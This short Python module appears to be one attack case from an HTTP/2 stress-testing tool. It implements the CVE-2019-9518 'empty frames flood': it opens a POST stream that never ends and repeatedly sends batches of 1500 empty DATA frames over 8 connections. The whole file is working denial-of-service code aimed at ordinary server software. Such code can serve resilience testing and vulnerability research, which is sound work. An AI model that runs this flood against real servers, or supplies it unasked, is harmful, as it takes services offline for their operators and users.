"""Empty DATA frames of a request that does not end (CVE-2019-9518, empty frames flood)."""

from itertools import repeat

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    post = frames.request(1, frames.head(b"/", "POST"), ends=False)
    batch = frames.frame(frames.DATA, stream=1) * 1500
    return await target.flood(8, frames.opening() + post, lambda: repeat(batch))
